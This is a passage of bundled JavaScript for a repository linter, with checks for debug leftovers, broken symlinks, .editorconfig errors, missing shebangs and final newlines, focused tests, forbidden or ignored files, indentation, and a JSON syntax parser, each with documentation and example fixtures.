the texts of debugging: "here", "xxx", "DEBUG …", "=====". \`System.out.println\` is a note, in the main sources of a
Java project that do not belong to a command line. \`dbg!\` is left alone in Rust's tests and build scripts, whose output is shown on failure only. \`Debug.WriteLine\` of .NET is left alone: release builds drop it.
So are comments, strings, fixtures, examples and documentation, and methods of the same name (\`$query->dd()\`).

Remove the line, or use the project's logger.`,
    source: 'https://eslint.org/docs/latest/rules/no-debugger',
    examples: [
        {
            title: 'break points and dumps',
            files: {
                'src/a.ts': "debugger;\nif (x) { debugger; }\nconsole.log('here');\nconsole.log('=====');\n",
                'app/a.py': 'import pdb; pdb.set_trace()\nbreakpoint()\nprint("DEBUG", x)\n',
                'lib/a.rb': 'binding.pry\nbyebug if x\n',
                'src/a.php': '<?php\nvar_dump($x);\ndd($x);\n',
                'src/a.rs': 'let y = dbg!(x + 1);\n',
                'src/main/java/a/Sum.java': 'class Sum {\n  void add() { System.out.println(1); }\n}\n',
            },
            findings: [
                'app/a.py:1',
                'app/a.py:2',
                'app/a.py:3',
                'lib/a.rb:1',
                'lib/a.rb:2',
                'src/a.php:2',
                'src/a.php:3',
                'src/a.rs:1',
                'src/a.ts:1',
                'src/a.ts:2',
                'src/a.ts:3',
                'src/a.ts:4',
                'src/main/java/a/Sum.java:2',
            ],
        },
        {
            title: 'output that is meant, words in comments and strings, and functions of that name',
            files: {
                'src/a.ts': "console.log('Listening on port', port);\n// debugger;\nconst s = 'debugger';\nuseDebugger(debugger_);\n",
                'app/a.py': 'print("Done.")\nbreakpoint = 3\n"""\npdb.set_trace()\n"""\n',
                'src/a.php': '<?php\nfunction dd($x) {}\n$query->dd();\n',
                'src/main/java/a/cli/Main.java': 'class Main {\n  void run() { System.out.println(1); }\n}\n',
                'docs/a.js': 'debugger;\n',
            },
            findings: [],
        },
    ],
    run(change, report) {
        const wanted = (path, language) => language in patterns && !isFixture(path) && !isExample(path);
        for (const added of addedLines(change, wanted, quick)) {
            const match = leftover(added);
            if (match === undefined)
                continue;
            if (added.language === 'rust' && (isTest(added.path) || added.path.endsWith('build.rs')))
                continue;
            const java = added.language === 'java';
            if (java && !isMainSource(added))
                continue;
            const name = match[0].trim().replace(/\($/, '');
            const message = java ? `\`${name}\` writes past the logger` : `\`${name}\` was left behind from debugging`;
            report(added.path, { line: added.line, column: match.index + 1, message, ...(java ? { level: 'note' } : {}) });
        }
    },
});
function leftover({ language, line, lexed, raw }) {
    const code = lexed.code(line);
    for (const pattern of patterns[language]) {
        const match = pattern.code.exec(code);
        if (match === null)
            continue;
        if (pattern.text === undefined)
            return match;
        const text = raw.slice(match.index + match[0].length).match(/^[\s(]*f?["'`]([^"'`]*)/)?.[1];
        if (text !== undefined && pattern.text.test(text))
            return match;
    }
    return undefined;
}
function isMainSource({ path, text }) {
    return (/^(?!buildSrc\/)(?:.*\/)?src\/main\//.test(path) &&
        !isTest(path) &&
        !terminal.test(path.replace('src/main/', '')) &&
        !/\bstatic void main\s*\(/.test(text));
}

;// CONCATENATED MODULE: ./lib/modules/checks/destroyed-symlink.js


const destroyedSymlink = changeCheck({
    id: 'destroyed-symlink',
    scope: 'change',
    summary: 'A symbolic link that became a file with its target as text',
    level: 'error',
    docs: `On a system without symbolic links, git writes a link as a small file that holds its target. Committing that file
from such a system replaces the link for everybody. Restore the link, or clone with \`core.symlinks=true\`.`,
    examples: [
        {
            title: 'A link that became a file',
            base: { 'a.txt': 'x\n', link: { content: 'a.txt', mode: 0o120000 } },
            files: { 'a.txt': 'x\n', link: 'a.txt' },
            findings: ['link'],
        },
        {
            title: 'A link replaced on purpose',
            base: { 'a.txt': 'x\n', link: { content: 'a.txt', mode: 0o120000 } },
            files: { 'a.txt': 'x\n', link: 'Text of its own,\non several lines.\n' },
            findings: [],
        },
    ],
    run(change, report) {
        for (const file of change.files) {
            if (file.base?.mode !== domain_entry/* Mode */.K.symlink || file.head === undefined || file.head.mode === domain_entry/* Mode */.K.symlink)
                continue;
            const text = change.text(file)?.replace(/\r?\n$/, '');
            if (text !== undefined && text.length < 4096 && !text.includes('\n')) {
                report(file.path, {
                    message: `The symbolic link became a file that holds its target, ${JSON.stringify(text)}`,
                });
            }
        }
    },
});

;// CONCATENATED MODULE: ./lib/modules/checks/editorconfig-syntax.js



const editorconfigSyntax = fileCheck({
    id: 'editorconfig-syntax',
    scope: 'file',
    summary: 'Lines of .editorconfig that editors ignore',
    level: 'error',
    source: 'https://spec.editorconfig.org/',
    types: file_type/* FileType */.pt.editorconfig,
    except: file_type/* FileType */.pt.vendored | file_type/* FileType */.pt.fixture,
    docs: `
An editor skips what it does not understand in silence. Reported are lines that are neither a comment, a section nor
\`name = value\`; values that the specification does not know for its own properties; \`root\` in a section; and any other
property before the first section.

Left alone: properties that other tools define, \`unset\`, and files in folders of test data or of other people's code.
`,
    examples: [
        {
            title: 'Properties of the specification and of others',
            files: {
                '.editorconfig': 'root = true\n\n[*]\nindent_style = Space\nindent_size = unset\nmax_line_length = 120\n',
            },
            findings: [],
        },
        {
            title: 'Values that nothing understands',
            files: { '.editorconfig': '[*]\nindent_style = spaces\nend_of_line = lf\ncharset = utf8\n' },
            findings: ['.editorconfig:2', '.editorconfig:4'],
        },
        {
            title: 'Lines in the wrong place or shape',
            files: { '.editorconfig': 'indent_size = 2\n[*.md\n[*.js]\nroot = true\nindent_size 4\n' },
            findings: ['.editorconfig:1', '.editorconfig:2', '.editorconfig:4', '.editorconfig:5'],
        },
    ],
    run(file, report) {
        for (const { message, line } of parseEditorconfig(file.text()).problems) {
            const offset = file.lineStarts()[line];
            report({ message, at: { offset, length: file.lineEnd(line) - offset } });
        }
    },
});

;// CONCATENATED MODULE: ./lib/modules/checks/executable-without-shebang.js



const executableWithoutShebang = fileCheck({
    id: 'executable-without-shebang',
    scope: 'file',
    summary: 'Executable text files that do not say what runs them',
    level: 'warning',
    facts: facts/* Fact */.d.executable,
    except: file_type/* unkempt */.rV,
    docs: `The mode says that the file can be run, but it has no \`#!\` line: running it hands it to whatever shell calls it.
Either the line is missing, or the mode is there by accident (\`git update-index --chmod=-x FILE\`). Batch files, which
Windows runs by their name, and the hooks of husky, which it hands to \`sh\`, are left alone.`,
    examples: [
        { title: 'Without', files: { run: { content: 'echo hello\n', mode: 0o100755 } }, findings: ['run:1'] },
        { title: 'With', files: { run: { content: '#!/bin/sh\necho hello\n', mode: 0o100755 } }, findings: [] },
    ],
    run(file, report) {
        if (file.facts & facts/* Fact */.d.shebang || /\.(?:bat|cmd|exe|ps1)$|(?:^|\/)\.husky\//i.test(file.path))
            return;
        const at = file.length > 0 ? { offset: 0, length: file.lineEnd(0) } : undefined;
        report({ message: 'The file is executable but has no #! line', at });
    },
});

;// CONCATENATED MODULE: ./lib/modules/checks/final-newline.js




const finalNewline = fileCheck({
    id: 'final-newline',
    scope: 'file',
    summary: 'Text that does not end with exactly one line end',
    level: 'warning',
    facts: facts/* Fact */.d.noFinalNewline | facts/* Fact */.d.extraFinalNewline,
    except: file_type/* unkempt */.rV,
    reads: declarations,
    source: 'https://pubs.opengroup.org/onlinepubs/9799919799/basedefs/V1_chap03.html#tag_03_185',
    docs: `POSIX defines a line as ending with a line end. Without the last one, tools that join or append to files run lines
together, and the next edit shows a line as changed that is not; several are noise. Empty files are left alone, files whose head says that they are generated or that \`.prettierignore\` names, and files that
\`.editorconfig\` gives \`insert_final_newline = false\`.`,
    examples: [
        { title: 'None', files: { 'a.txt': 'one\ntwo' }, findings: ['a.txt:2'], fixed: { 'a.txt': 'one\ntwo\n' } },
        { title: 'Several', files: { 'a.txt': 'one\n\n\n' }, findings: ['a.txt:2'], fixed: { 'a.txt': 'one\n' } },
        { title: 'Nothing but line ends', files: { 'a.txt': '\n\n' }, findings: ['a.txt:1'], fixed: { 'a.txt': '' } },
        {
            title: 'In the style of the file',
            files: { 'a.txt': 'one\r\ntwo' },
            findings: ['a.txt:2'],
            fixed: { 'a.txt': 'one\r\ntwo\r\n' },
        },
        {
            title: 'Declared to be meant, and generated',
            files: {
                '.editorconfig': '[*.in]\ninsert_final_newline = false\n',
                'a.in': 'one',
                'a.go': '// Code generated by stringer. DO NOT EDIT.\n\n',
            },
            findings: [],
        },
        { title: 'Exactly one, or an empty file', files: { 'a.txt': 'one\n', 'b.txt': '' }, findings: [] },
    ],
    run(file, report) {
        if (file.facts & facts/* Fact */.d.noFinalNewline) {
            const text = (file.facts & (facts/* Fact */.d.lf | facts/* Fact */.d.cr)) === 0 && (file.facts & facts/* Fact */.d.crlf) !== 0 ? '\r\n' : '\n';
            report({
                message: 'The last line has no line end',
                at: { offset: file.length, length: 0 },
                fix: { description: 'End the last line', edits: [{ offset: file.length, length: 0, text }] },
            });
            return;
        }
        const offset = endOfText(file.buffer, file.length);
        const at = { offset, length: file.length - offset };
        report({
            message: offset === 0 ? 'The file consists of line ends' : 'Blank lines at the end of the file',
            at,
            fix: { description: 'Remove them', edits: [{ ...at, text: '' }] },
        });
    },
    spares(file, _draft, read) {
        return isUnkempt(file, read) || declares(file, read, 'insert_final_newline', 'false');
    },
});
function endOfText(buffer, length) {
    let end = length;
    while (end > 0 && (buffer[end - 1] === 10 || buffer[end - 1] === 13))
        end--;
    if (end === 0)
        return 0;
    return end + (buffer[end] === 13 && buffer[end + 1] === 10 ? 2 : 1);
}

;// CONCATENATED MODULE: ./lib/modules/checks/focused-test.js



const focused_test_patterns = {
    javascript: /(?<![\w$.])(?:(?:describe|context|suite|it|test|specify|bench)(?:\.\w+)*\.only(?=\s*[(.`])|(?:fdescribe|fcontext|fit|fspecify)(?:\.each)?(?=\s*(?:\(\s*["'`]|`)))/,
    go: /(?<![\w.]|func |\) )(?:ginkgo\.)?F(?:It|Describe|Context|When|Specify|Entry|DescribeTable(?:Subtree)?)\((?=\s*(?:"|`|$))/,
    ruby: /(?<![\w.:])(?:(?:fit|fdescribe|fcontext|fspecify|fexample)(?=[ (]+["'])|focus: true\b|:focus => true\b|:focus(?=\s*(?:do\b|,.*\bdo\b)))/,
    swift: /(?<![\w.])(?:fit|fdescribe|fcontext)(?=\(")/,
    dart: /(?<![\w.])(?:solo: true\b|solo_(?:test|group)(?=\())/,
};
const focused_test_quick = /\.only\b|\bf(?:it|describe|context|specify|example)\b|\bF[A-Z]|focus|solo/;
const focusedTest = changeCheck({
    scope: 'change',
    id: 'focused-test',
    summary: 'A test that is singled out, so that the others do not run',
    level: 'error',
    docs: `A test marked with \`.only\`, \`fit\` or \`focus\` helps while one works on it. Committed, it switches off every
other test of its file or suite, and the run still ends green.

Only lines that the change adds to test files are looked at: \`describe.only\`, \`it.only\`, \`test.only\`, \`fit\` and
\`fdescribe\` (JavaScript, TypeScript), Ginkgo's \`FIt\` and \`FDescribe\`, RSpec's \`fit\` and \`focus: true\`, Quick's
\`fit\`, Dart's \`solo\`. Comments, strings, and the fixtures of tests are left alone, and so is a function that happens
to be called \`fit\`, when its first argument is no name of a test.

Remove the mark.`,
    source: 'https://jestjs.io/docs/api#testonlyname-fn-timeout',
    examples: [
        {
            title: 'the marks of JavaScript, Go and Ruby',
            files: {
                'src/sum.test.ts': "it.only('adds', () => {});\nfdescribe('sum', () => {});\ntest.concurrent.only.each([1])('x', () => {});\n",
                'pkg/sum_test.go': 'package pkg\n\nvar _ = FDescribe("sum", func() {})\n',
                'spec/sum_spec.rb': "it 'adds', focus: true do\nend\nfit 'adds' do\nend\n",
            },
            findings: [
                'pkg/sum_test.go:3',
                'spec/sum_spec.rb:1',
                'spec/sum_spec.rb:3',
                'src/sum.test.ts:1',
                'src/sum.test.ts:2',
                'src/sum.test.ts:3',
            ],
        },
        {
            title: 'comments, strings, other functions, other files, and what was there before',
            base: { 'src/old.test.ts': "it.only('old', () => {});\n" },
            files: {
                'src/old.test.ts': "it.only('old', () => {});\nit('new', () => {});\n",
                'src/sum.test.ts': "// it.only('x')\nconst text = \"it.only('x')\";\nmodel.fit(x);\nfit(box, page);\n",
                'src/layout.ts': "query.only('name');\n",
                'spec/view_spec.rb': 'expect(field).to receive(:focus)\n',
            },
            findings: [],
        },
    ],
    run(change, report) {
        const wanted = (path, language) => language in focused_test_patterns && isTest(path) && !isFixture(path);
        for (const { path, language, line, lexed } of addedLines(change, wanted, focused_test_quick)) {
            const match = focused_test_patterns[language].exec(lexed.code(line));
            if (match === null)
                continue;
            const message = `\`${match[0].trim().replace(/\($/, '')}\` runs this test alone and leaves out the others`;
            report(path, { line, column: match.index + 1, message });
        }
    },
});

;// CONCATENATED MODULE: ./lib/modules/checks/forbidden-file.js

const forbiddenFile = treeCheck({
    id: 'forbidden-file',
    scope: 'tree',
    summary: 'Files that do not belong into a repository',
    level: 'warning',
    docs: `Environment files with their secrets, what the operating system or an editor leaves behind, caches and build
outputs of interpreters and package managers. Remove the file (\`git rm --cached FILE\`) and add it to \`.gitignore\`.
Environment files that are examples (\`.env.example\`, \`.env.sample\`, \`.env.test\` and the like) and everything in folders
of test data are left alone.`,
    options: {
        forbid: {
            type: 'strings',
            default: [],
            summary: 'more names or endings of paths, such as `.orig` or `build/out.js`',
        },
        allow: { type: 'strings', default: [], summary: 'paths, or their endings, that are meant to be there' },
    },
    examples: [
        {
            title: 'Left behind',
            files: { '.DS_Store': 'x\n', 'a/__pycache__/b.pyc': 'x\n', '.env': 'A=1\n' },
            findings: ['.DS_Store', '.env', 'a/__pycache__/b.pyc'],
        },
        { title: 'Examples', files: { '.env.example': 'A=\n', 'src/env.ts': 'export {};\n' }, findings: [] },
        { title: 'Forbidden here', files: { 'a.orig': 'x\n' }, options: { forbid: ['.orig'] }, findings: ['a.orig'] },
    ],
    run(tree, report, options) {
        const ends = (path, end) => path === end || path.endsWith(end.startsWith('.') ? end : `/${end}`);
        for (const { path } of tree.candidates) {
            if (options.allow.some((end) => ends(path, end)))
                continue;
            const kind = forbiddenPath.test(path) ? kindOf(path) : undefined;
            const what = kind ?? (options.forbid.some((end) => ends(path, end)) ? 'forbidden by the configuration' : undefined);
            if (what !== undefined)
                report(path, { message: `The file is ${what}` });
        }
    },
});
const forbiddenPath = /(?:^|\/)(?:\.env|\.ds_store|thumbs\.db|desktop\.ini|__pycache__\/|node_modules\/|\.pytest_cache\/|\.mypy_cache\/|\.ruff_cache\/|\.tox\/|\.nox\/|\.venv\/|\.ipynb_checkpoints\/|\.gradle\/|\.terraform\/|\.idea\/workspace\.xml|\.vs\/|\.history\/|npm-debug\.log|yarn-error\.log|\.coverage$|core\.\d+$)|\.(?:pyc|pyo|class|swp|swo|tfstate|orig|rej)$|~$/i;
const testData = /(?:^|\/)(?:[\w.-]*fixtures?|test|tests|__tests__|spec|testdata|test[-_]data|samples?|examples?|templates?)\//i;
const environment = /(?:^|\/)\.env(?:\.[\w.-]+)?$/;
const harmlessEnvironment = /\.(?:example|sample|template|tmpl|dist|defaults?|tests?|ci|schema|vault|e2e)(?:\.|$)/i;
function kindOf(path) {
    if (testData.test(path))
        return undefined;
    if (/(?:^|\/)\.env/i.test(path)) {
        return environment.test(path) && !harmlessEnvironment.test(path)
            ? 'an environment file, which may hold secrets'
            : undefined;
    }
    if (/\.tfstate$/i.test(path))
        return 'a state of Terraform, which may hold secrets';
    if (/(?:ds_store|thumbs\.db|desktop\.ini)$/i.test(path))
        return 'left behind by the operating system';
    if (/(?:~|\.swp|\.swo|workspace\.xml)$|\/\.(?:vs|history)\//i.test(path))
        return 'left behind by an editor';
    if (/\.(?:orig|rej)$/i.test(path))
        return 'left behind by a merge or a patch';
    return 'an output or a cache of a tool';
}

;// CONCATENATED MODULE: ./lib/modules/checks/ignored-but-tracked.js


const ignoredButTracked = treeCheck({
    id: 'ignored-but-tracked',
    scope: 'tree',
    summary: 'Files that are tracked although the ignore rules match them',
    level: 'note',
    source: 'https://git-scm.com/docs/gitignore',
    docs: `The file was added before the rule, or by force. Changes to it are committed although the rule says that they do
not matter, and tools that respect ignore rules pass over it. Remove it (\`git rm --cached FILE\`), or add an exception
(\`!FILE\`) to \`.gitignore\`. Left alone is what is added by force as a custom: tests and their data, files that keep a folder
(\`.gitkeep\`), examples, lock files, Gradle's wrapper, and settings of a development environment.`,
    examples: [
        { title: 'Added by force', files: { '.gitignore': '*.log\n', 'a.log': 'x\n' }, findings: ['a.log'] },
        {
            title: 'A custom',
            files: { '.gitignore': '*.lock\n/log\n.idea\n', 'a.lock': 'x\n', 'log/.gitkeep': '', '.idea/a.xml': '<a/>\n' },
            findings: [],
        },
        { title: 'An exception', files: { '.gitignore': '*.log\n!a.log\n', 'a.log': 'x\n' }, findings: [] },
    ],
    async run(tree, report) {
        const ignored = new Set(await tree.ignoredTracked());
        if (ignored.size === 0)
            return;
        for (const { path } of tree.candidates) {
            if (!ignored.has(path) || ignored_but_tracked_customary.test(path) || (0,file_type/* fileTypes */.Ko)(path) & (file_type/* FileType */.pt.fixture | file_type/* FileType */.pt.test))
                continue;
            report(path, { message: 'The file is tracked, but .gitignore tells to ignore it' });
        }
    },
});
const ignored_but_tracked_customary = /(?:^|\/)(?:\.(?:git)?keep|[^/]*examples?\b[^/]*|gradle-wrapper\.jar|[^/]*[.-]lock(?:\.\w+)?|\.(?:idea|vscode)\/.*)$/;

;// CONCATENATED MODULE: ./lib/modules/checks/indentation.js





const indentation = fileCheck({
    id: 'indentation',
    scope: 'file',
    summary: 'Lines that are not indented as .editorconfig says',
    level: 'note',
    facts: facts/* Fact */.d.tabIndent | facts/* Fact */.d.spaceIndent,
    except: file_type/* unkempt */.rV | file_type/* FileType */.pt.markdown | file_type/* FileType */.pt.patch,
    reads: declarations,
    source: 'https://spec.editorconfig.org/',
    docs: `Where an \`.editorconfig\` gives the file an \`indent_style\`, a line that begins with the other kind of blank is
reported: one finding a file, with the number of lines. Spaces behind tabs align and are left alone, and so are lines that
continue a comment (\` *\`). Tabs are also left alone where the format asks for them (Go, make, git's own files), and so
are files whose head says that they are generated or that \`.prettierignore\` names. Without \`indent_style\` nothing is said: which blanks are right is the project's matter.`,
    examples: [
        {
            title: 'A tab among spaces',
            files: { '.editorconfig': '[*.py]\nindent_style = space\n', 'a.py': 'if x:\n\ty = 1\n' },
            findings: ['a.py:2'],
        },
        {
            title: 'Spaces among tabs',
            files: { '.editorconfig': '[*]\nindent_style = tab\n', 'src/a.c': 'void f()\n{\n    g();\n\th();\n}\n' },
            findings: ['src/a.c:3'],
        },
        {
            title: 'As it should be, and a comment',
            files: { '.editorconfig': '[*.ts]\nindent_style = tab\n', 'a.ts': '/**\n * Text\n */\n\tcall();\n' },
            findings: [],
        },
        {
            title: 'Tabs that must be',
            files: {
                '.editorconfig': '[*]\nindent_style = space\n',
                Makefile: 'all:\n\techo\n',
                'a.go': 'func f() {\n\tg()\n}\n',
            },
            findings: [],
        },
        { title: 'Nothing is said', files: { 'a.py': 'if x:\n\ty = 1\n' }, findings: [] },
    ],
    run(file, report, _options, read) {
        const style = propertiesFor(file.path, read)['indent_style'];
        if (style === 'space' && tabbed.test(file.path))
            return;
        const wrong = style === 'tab' ? facts/* Fact */.d.spaceIndent : style === 'space' ? facts/* Fact */.d.tabIndent : 0;
        if ((file.facts & wrong) !== 0)
            reportLines(file, report, style === 'tab' ? 0x20 : 0x09);
    },
    spares: (file, _draft, read) => isUnkempt(file, read),
});
const tabbed = /\.(?:go|mk|mak|tsv)$|(?:^|\/)(?:(?:gnu)?makefile(?:\.[\w.-]+)?|go\.(?:mod|work)|\.git(?:modules|config))$/i;
function reportLines(file, report, wrong) {
    const lines = file.lineStarts().flatMap((start, line) => (isWrong(file, start, line, wrong) ? [line] : []));
    const [first] = lines;
    if (first === undefined)
        return;
    const kinds = wrong === 0x09 ? ['a tab', 'spaces'] : ['spaces', 'tabs'];
    const others = lines.length === 1 ? 'This line begins' : `${lines.length} lines, this one first, begin`;
    report({
        message: `${others} with ${kinds[0]}; .editorconfig asks for ${kinds[1]}`,
        at: { offset: file.lineStarts()[first], length: 1 },
    });
}
function isWrong(file, start, line, wrong) {
    if (file.buffer[start] !== wrong)
        return false;
    const end = file.lineEnd(line);
    let text = start;
    while (text < end && file.buffer[text] === wrong)
        text++;
    if (text === end)
        return false;
    return wrong === 0x09 || (text - start > 1 && file.buffer[text] !== 0x2a);
}

// EXTERNAL MODULE: external "node:buffer"
var external_node_buffer_ = __webpack_require__(4573);
// EXTERNAL MODULE: ./lib/modules/checks/syntax/problem.js
var syntax_problem = __webpack_require__(7263);
;// CONCATENATED MODULE: ./lib/modules/checks/syntax/json-failure.js

let problem;
function takeProblem() {
    const taken = problem;
    problem = undefined;
    return taken;
}
function report(offset, length, message) {
    problem = { message, offset, length };
    return -1;
}
function fail(b, at, end, message) {
    const c = b[at];
    if (c === 0x2f && at + 1 < end && (b[at + 1] === 0x2f || b[at + 1] === 0x2a))
        return report(at, 2, 'JSON has no comments');
    if (c === 0x23)
        return report(at, 1, 'JSON has no comments');
    return report(at, tokenEnd(b, at, end) - at, message);
}
function failAtEnd(b, end, opening) {
    if (opening < 0)
        return report(end, 0, 'Expected a value, but the file is blank');
    const name = b[opening] === 0x7b ? 'object' : 'array';
    return report(end, 0, `The ${name} that begins on line ${(0,syntax_problem/* lineAt */.mh)(b, opening)} is never closed`);
}
function failAtKey(b, at, end, afterComma) {
    if (b[at] === 0x7d)
        return report(at, 1, 'Expected another name after the comma, or no comma before }');
    if (b[at] === 0x27)
        return report(at, 1, 'Expected a name in double quotes, not in single quotes');
    return fail(b, at, end, afterComma ? 'Expected a name in double quotes' : 'Expected a name in double quotes, or }');
}
function failAtValue(b, at, end) {
    switch (b[at]) {
        case 0x5d:
        case 0x7d:
            return report(at, 1, `Expected a value before ${printable(b[at])}`);
        case 0x2c:
            return report(at, 1, 'Expected a value before the comma');
        case 0x27:
            return report(at, 1, 'Expected a string in double quotes, not in single quotes');
        case 0x2b:
            return report(at, 1, 'A number may not begin with a plus sign');
        case 0x2e:
            return report(at, 1, 'Expected a digit before the decimal point');
        default:
            return failAtWord(b, at, end);
    }
}
function failAtWord(b, at, end) {
    const word = b.toString('latin1', at, Math.min(tokenEnd(b, at, end), at + 40));
    if (/^(?:true|false|null)$/i.test(word))
        return fail(b, at, end, `Expected ${word.toLowerCase()}, not ${word}`);
    return fail(b, at, end, /^\w+$/.test(word) ? `${word} is no JSON value` : 'Expected a value');
}
function failAtControl(start, at, c) {
    if (c === 0x0a || c === 0x0d)
        return report(start, at - start, 'This string is not closed on its line');
    return report(at, 1, `${printable(c)} must be escaped in a string`);
}
function unclosedString(start, end) {
    return report(start, end - start, 'This string is never closed');
}
function printable(c) {
    if (c > 0x20 && c < 0x7f)
        return String.fromCharCode(c);
    return c === 0x20 ? 'A space' : `Byte 0x${c.toString(16).toUpperCase().padStart(2, '0')}`;
}
function tokenEnd(b, at, end) {
    let i = at;
    while (i < end && /[\w$-]/.test(String.fromCharCode(b[i])))
        i++;
    if (i > at)
        return i;
    while (++i < end && (b[i] & 0xc0) === 0x80)
        ;
    return i;
}

;// CONCATENATED MODULE: ./lib/modules/checks/syntax/json-tokens.js

const bits = { seen: 0 };
function readString(b, start, end) {
    let seen = 0;
    for (let i = start + 1; i < end; i++) {
        const c = b[i];
        if (c === 0x22) {
            bits.seen |= seen;
            return i + 1;
        }
        if (c < 0x20)
            return failAtControl(start, i, c);
        seen |= c;
        if (c === 0x5c) {
            i = readEscape(b, i, end);
            if (i === -1)
                return -1;
        }
    }
    return unclosedString(start, end);
}
function readEscape(b, start, end) {
    if (start + 1 >= end)
        return end;
    const c = b[start + 1];
    if (c === 0x22 || c === 0x5c || c === 0x2f || c === 0x62 || c === 0x66 || c === 0x6e || c === 0x72 || c === 0x74) {
        return start + 1;
    }
    if (c !== 0x75)
        return report(start, 2, `${printable(c)} after a backslash is no escape that JSON knows`);
    for (let i = start + 2; i < start + 6; i++) {
        if (i >= end || !isHex(b[i]))
            return report(start, 2, 'Expected four hexadecimal digits after \\u');
    }
    return start + 5;
}
function isHex(c) {
    return (c >= 0x30 && c <= 0x39) || (c >= 0x61 && c <= 0x66) || (c >= 0x41 && c <= 0x46);
}
function readNumber(b, start, end) {
    const first = b[start] === 0x2d ? start + 1 : start;
    let i = afterDigits(b, first, end);
    if (i === first)
        return report(start, 1, 'Expected a digit after the minus sign');
    if (b[first] === 0x30 && i > first + 1)
        return report(start, i - start, 'A number may not begin with a superfluous 0');
    if (i < end && b[i] === 0x2e) {
        const fraction = i + 1;
        i = afterDigits(b, fraction, end);
        if (i === fraction)
            return report(start, i - start, 'Expected a digit after the decimal point');
    }
    if (i < end && (b[i] === 0x65 || b[i] === 0x45)) {
        if (++i < end && (b[i] === 0x2b || b[i] === 0x2d))
            i++;
        const exponent = i;
        i = afterDigits(b, exponent, end);
        if (i === exponent)
            return report(start, i - start, 'Expected a digit in the exponent');
    }
    return i;
}
function afterDigits(b, start, end) {
    let i = start;
    while (i < end && b[i] >= 0x30 && b[i] <= 0x39)
        i++;
    return i;
}
function readWord(b, start, end) {
    const left = end - start;
    const c = b[start];
    const behind = c === 0x66 ? start + 5 : start + 4;
    const found = (c === 0x74 && left >= 4 && b[start + 1] === 0x72 && b[start + 2] === 0x75 && b[start + 3] === 0x65) ||
        (c === 0x6e && left >= 4 && b[start + 1] === 0x75 && b[start + 2] === 0x6c && b[start + 3] === 0x6c) ||
        (c === 0x66 &&
            left >= 5 &&
            b[start + 1] === 0x61 &&
            b[start + 2] === 0x6c &&
            b[start + 3] === 0x73 &&
            b[start + 4] === 0x65);
    return found ? behind : failAtValue(b, start, end);
}
function readComment(b, start, end) {
    const second = start + 1 < end ? b[start + 1] : 0;
    if (second !== 0x2f && second !== 0x2a)
        return fail(b, start, end, 'Expected // or /* at the begin of a comment');
    for (let i = start + 2; i < end; i++) {
        const c = b[i];
        bits.seen |= c;
        if (second === 0x2f) {
            if (c === 0x0a || c === 0x0d)
                return i;
        }
        else if (c === 0x2a && i + 1 < end && b[i + 1] === 0x2f)
            return i + 2;
    }
    return second === 0x2f ? end : report(start, 2, 'This comment is never closed');
}

;// CONCATENATED MODULE: ./lib/modules/checks/syntax/unique-keys.js
class KeyStack {
    count = 0;
    #hashes = new Int32Array(1024);
    #offsets = new Int32Array(1024);
    push(hash, offset) {
        if (this.count === this.#hashes.length)
            this.#grow();
        this.#hashes[this.count] = hash;
        this.#offsets[this.count++] = offset;
    }
    offset(index) {
        return this.#offsets[index];
    }
    hasEqualHashes(base) {
        const { count } = this;
        if (count - base > 24)
            return this.#hasEqualHashesSorted(base);
        const hashes = this.#hashes;
        for (let i = base + 1; i < count; i++) {
            const hash = hashes[i];
            for (let j = base; j < i; j++)
                if (hashes[j] === hash)
                    return true;
        }
        return false;
    }
    #hasEqualHashesSorted(base) {
        const sorted = this.#hashes.slice(base, this.count).sort();
        for (let i = 1; i < sorted.length; i++)
            if (sorted[i] === sorted[i - 1])
                return true;
        return false;
    }
    #grow() {
        const hashes = new Int32Array(this.count * 2);
        const offsets = new Int32Array(this.count * 2);
        hashes.set(this.#hashes);
        offsets.set(this.#offsets);
        this.#hashes = hashes;
        this.#offsets = offsets;
    }
}
function hashBytes(buffer, start, end) {
    let hash = 0x811c9dc5 | 0;
    for (let i = start; i < end; i++)
        hash = Math.imul(hash ^ buffer[i], 0x01000193);
    return hash;
}

;// CONCATENATED MODULE: ./lib/modules/checks/syntax/utf8.js

function findUtf8Error(buffer, length) {
    if ((0,external_node_buffer_.isUtf8)(buffer.subarray(0, length)))
        return undefined;
    const offset = firstBadByte(buffer, length);
    const byte = buffer[offset].toString(16).toUpperCase().padStart(2, '0');
    return { message: `Byte 0x${byte} is not valid UTF-8`, offset, length: 1 };
}
function firstBadByte(buffer, length) {
    let good = 0;
    let bad = length;
    while (bad - good > 8) {
        const middle = sequenceStart(buffer, good, (good + bad) >> 1);
        if (middle === good)
            break;
        if ((0,external_node_buffer_.isUtf8)(buffer.subarray(good, middle)))
            good = middle;
        else
            bad = middle;
    }
    while (good < bad) {
        const width = sequenceWidth(buffer[good]);
        if (width === 0 || good + width > length || !(0,external_node_buffer_.isUtf8)(buffer.subarray(good, good + width)))
            break;
        good += width;
    }
    return Math.min(good, length - 1);
}
function sequenceStart(buffer, from, at) {
    let i = at;
    while (i > from && (buffer[i] & 0xc0) === 0x80)
        i--;
    return i;
}
function sequenceWidth(lead) {
    if (lead < 0x80)
        return 1;
    if (lead >= 0xc2 && lead < 0xe0)
        return 2;
    if (lead >= 0xe0 && lead < 0xf0)
        return 3;
    return lead >= 0xf0 && lead < 0xf5 ? 4 : 0;
}

;// CONCATENATED MODULE: ./lib/modules/checks/syntax/json.js






const strictJson = { comments: false, trailingCommas: false };
const commentedJson = { comments: true, trailingCommas: true };
const value = 0;
const firstValue = 1;
const comma = 2;
const key = 3;
const firstKey = 4;
const keys = new KeyStack();
let openings = new Int32Array(256);
let bases = new Int32Array(256);
let json_depth = 0;
function findJsonError(buffer, length, dialect = strictJson) {
    keys.count = 0;
    json_depth = 0;
    bits.seen = 0;
    if (readDocument(buffer, (0,syntax_problem/* afterByteOrderMark */.kX)(buffer, length), length, dialect) === -1)
        return takeProblem();
    return bits.seen >= 0x80 ? findUtf8Error(buffer, length) : undefined;
}
function readDocument(b, start, end, dialect) {
    let expected = value;
    let i = start;
    for (;;) {
        while (i < end && (b[i] === 0x20 || b[i] === 0x0a || b[i] === 0x0d || b[i] === 0x09))
            i++;
        if (i >= end) {
            const complete = json_depth === 0 && (expected === comma || dialect.comments);
            return complete ? end : failAtEnd(b, end, json_depth === 0 ? -1 : openings[json_depth - 1]);
        }
        const c = b[i];
        if (c === 0x2f && dialect.comments) {
            i = readComment(b, i, end);
        }
        else if (expected === comma) {
            if (json_depth === 0)
                return fail(b, i, end, 'Expected nothing after the value of the document');
            const inObject = bases[json_depth - 1] >= 0;
            if (c === 0x2c) {
                expected = inObject ? key : value;
